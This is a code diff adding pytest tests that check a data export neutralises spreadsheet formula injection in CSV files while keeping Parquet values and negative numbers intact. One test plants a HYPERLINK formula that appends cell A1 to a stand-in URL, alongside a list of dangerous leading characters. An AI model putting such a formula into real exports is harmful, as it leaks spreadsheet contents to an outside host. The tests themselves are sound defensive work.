@@ -138,6 +138,30 @@ def test_what_clients_sent_stays_text(layered: Any, tmp_path: Path) -> None:
     assert hostile in found.words
 
 
+def test_no_text_of_a_csv_file_is_a_formula_and_parquet_has_it_as_it_was(
+    layered: Any, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("https://example.org/?"&A1)'
+    change = f"update gold.top_pages set page_path = '{formula}' where page_path = '/p/1'"
+    with layered.with_gold(change):
+        folder = tmp_path / write(layered, tmp_path).page.stem
+
+    with (folder / "pages.csv").open(encoding="utf-8", newline="") as lines:
+        paths = {row["page_path"] for row in csv.DictReader(lines)}
+    assert f"'{formula}" in paths
+    assert not any(path.startswith(("=", "+", "-", "@")) for path in paths)
+    assert formula in pq.read_table(folder / "pages.parquet")["page_path"].to_pylist()
+
+
+def test_numbers_of_a_csv_file_stay_numbers(layered: Any, tmp_path: Path) -> None:
+    change = "update gold.books set difference = -1 where layer = 'gold' and measure = 'events'"
+    with layered.with_gold(change):
+        folder = tmp_path / write(layered, tmp_path).page.stem
+
+    with (folder / "books.csv").open(encoding="utf-8", newline="") as lines:
+        assert "-1" in {row["difference"] for row in csv.DictReader(lines)}
+
+
 def test_books_that_do_not_balance_are_shown_as_wrong(layered: Any, tmp_path: Path) -> None:
     change = "update gold.books set difference = -1 where layer = 'gold' and measure = 'events'"
     with layered.with_gold(change):
